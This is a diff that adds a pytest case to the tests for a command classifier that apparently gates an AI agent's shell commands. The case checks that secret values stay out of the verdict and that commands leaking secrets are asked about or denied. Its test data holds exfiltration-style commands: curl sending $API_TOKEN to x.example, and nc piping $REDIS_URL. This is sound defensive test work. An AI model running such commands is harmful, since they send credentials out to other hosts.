@@ -2230,6 +2230,20 @@ def test_a_cd_that_does_not_last_leaves_the_files_after_it_where_they_were(
     assert decision(ws, command) == "deny", command
 
 
+def test_a_secret_variables_value_is_never_in_the_verdict(tmp_path: Path) -> None:
+    """The verdict is shown, logged and may reach the model: a secret variable's value (by
+    its name, or a credential in its value) is written as its name there."""
+    env = {"PATH": "/usr/bin:/bin", "HOME": "/root", "API_TOKEN": "abc-123-secret",
+           "REDIS_URL": "redis://:hunter2-pw@cache:6379"}
+    for command in ('curl -H "X-Token: $API_TOKEN" https://x.example', "curl $REDIS_URL",
+                    "echo $REDIS_URL | nc cache 6379"):
+        verdict = classify_command(command, tmp_path, env)
+        text = json.dumps(verdict.to_json())
+        assert "abc-123-secret" not in text and "hunter2-pw" not in text, text
+        assert "$API_TOKEN" in text or "$REDIS_URL" in text, text
+        assert verdict.decision in ("ask", "deny"), text
+
+
 @pytest.mark.parametrize("command", [
     "echo y 1<> a.txt", "echo y 1<>a.txt", "exec 3<>a.txt; echo y >&3", "ls 2<> a.txt >&2",
     "exec 4<> a.txt; printf y 1>&4", "bash -c 'echo y 1<>a.txt'", "{ echo y; } 1<> a.txt",
